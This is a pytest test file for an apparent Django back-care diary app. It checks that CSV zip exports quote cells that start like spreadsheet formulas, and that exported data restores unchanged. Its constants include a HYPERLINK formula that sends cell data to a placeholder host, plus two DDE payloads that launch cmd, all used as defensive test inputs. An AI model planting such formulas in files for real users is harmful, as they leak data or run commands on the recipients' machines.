"""Text in the CSV zip cannot run as a spreadsheet formula, and still loads back unchanged."""

from __future__ import annotations

import csv
import io
import json
import zipfile
from datetime import timedelta

import pytest
from django.db import models

from backcare.diary.models import Measure, SpasmEpisode
from backcare.exchange.data_export import export_csv_zip, export_data, export_json
from backcare.exchange.data_import import read_export, restore
from backcare.exchange.tables import csv_cell, from_csv_cell
from backcare.messaging import service
from backcare.plans.models import Tailoring
from backcare.spreadsheet import read_cell, safe_cell
from tests.care.conftest import link
from tests.conftest import make_user
from tests.exchange.conftest import NOW, TODAY
from tests.progress_data import log

pytestmark = pytest.mark.django_db

EXFILTRATE = '=HYPERLINK("http://x/?d="&A2,"y")'
DDE = '=cmd|" /C calc"!A0'
AT_DDE = "@SUM(1+1)*cmd|' /C calc'!A0"
NOTES = ["=1+1", "'=already", "-3 days", "@home", "plain text", "+44 7700", "\tTab", " =1"]


def zip_rows(content: bytes, name: str) -> list[dict[str, str]]:
    archive = zipfile.ZipFile(io.BytesIO(content))
    return list(csv.DictReader(io.StringIO(archive.read(name).decode())))


@pytest.mark.parametrize(
    ("text", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-3 days", "'-3 days"),
        ("@home", "'@home"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("  =1", "'  =1"),  # a spreadsheet may trim the spaces on import
        ("'=already", "''=already"),  # one more, so the import can take exactly one off
        ("''+x", "'''+x"),
        ("plain", "plain"),
        ("'quoted", "'quoted"),
        ("a=b", "a=b"),
        (" indented", " indented"),
        ("", ""),
    ],
)
def test_safe_cell_quotes_exactly_the_formula_starts_and_read_cell_undoes_it(text, written):
    assert safe_cell(text) == written
    assert read_cell(written) == text


def test_numbers_stay_numbers_and_text_columns_are_quoted():
    assert csv_cell(-3, models.IntegerField()) == "-3"
    assert csv_cell(-2.5, models.FloatField()) == "-2.5"
    assert csv_cell(["-1"], models.JSONField()) == '["-1"]'
    assert csv_cell("-3 days", models.TextField()) == "'-3 days"
    assert from_csv_cell("'-3 days", models.TextField()) == "-3 days"
    assert from_csv_cell("-3", models.IntegerField()) == "-3"  # the field converts it later


def test_clinician_text_in_the_export_zip_cannot_run_as_a_formula(cy, ana, ana_client, frozen):
    cy.display_name = EXFILTRATE
    cy.save()
    care = link(cy, ana)
    service.send_message(care, cy, DDE)
    Tailoring.objects.create(
        user=ana, clinician=cy, clinician_name=cy.name, kind="note", reason=AT_DDE
    )
    Measure.objects.create(user=ana, day=TODAY, kind="sleep_hours", value=-2.5, source="x")
    content = ana_client.get("/my-data/export-csv.zip").content
    assert [row["clinician_name"] for row in zip_rows(content, "conversations.csv")] == [
        "'" + EXFILTRATE
    ]
    assert [row["body"] for row in zip_rows(content, "messages.csv")] == ["'" + DDE]
    (change,) = zip_rows(content, "plan_changes.csv")
    assert (change["clinician_name"], change["reason"]) == ("'" + EXFILTRATE, "'" + AT_DDE)
    (measure,) = zip_rows(content, "measures.csv")
    assert measure["value"] == "-2.5"  # a number the program wrote stays a number
    # The JSON export is not opened in a spreadsheet: its text is as written.
    document = json.loads(export_json(ana, NOW))
    assert document["tables"]["messages"][0]["body"] == DDE


def test_the_patients_own_notes_are_quoted_in_the_zip(ana, frozen):
    for offset, note in enumerate(NOTES):
        log(ana, TODAY - timedelta(days=offset), 3, notes=note)
    written = [row["notes"] for row in zip_rows(export_csv_zip(ana, NOW), "checkins.csv")]
    assert written == [
        "'=1+1", "''=already", "'-3 days", "'@home", "plain text", "'+44 7700", "'\tTab", "' =1"
    ]  # fmt: skip


def test_export_then_restore_gives_back_every_note_exactly(ana, frozen, tmp_path):
    ana.display_name = "=Ana"
    ana.save()
    for offset, note in enumerate(NOTES):
        log(ana, TODAY - timedelta(days=offset), 3, notes=note)
    SpasmEpisode.objects.create(
        user=ana, started_at=NOW - timedelta(days=2), severity=5, trigger="-lifting", notes="@gym"
    )
    Measure.objects.create(user=ana, day=TODAY, kind="sleep_hours", value=-2.5, source="x")
    original = export_data(ana, NOW)
    path = tmp_path / "export.zip"
    path.write_bytes(export_csv_zip(ana, NOW))
    (profile,) = zip_rows(path.read_bytes(), "profile.csv")
    assert (profile["display_name"], profile["year_of_birth"]) == ("'=Ana", "1985")
    fresh = make_user("ana2")
    restore(fresh, read_export(path))
    fresh.refresh_from_db()
    assert fresh.display_name == "=Ana"
    restored = export_data(fresh, NOW)
    assert [row["notes"] for row in restored["tables"]["checkins"]] == NOTES
    assert restored["tables"]["measures"][0]["value"] == -2.5
    for name in ("checkins", "episodes", "measures"):
        assert restored["tables"][name] == original["tables"][name]
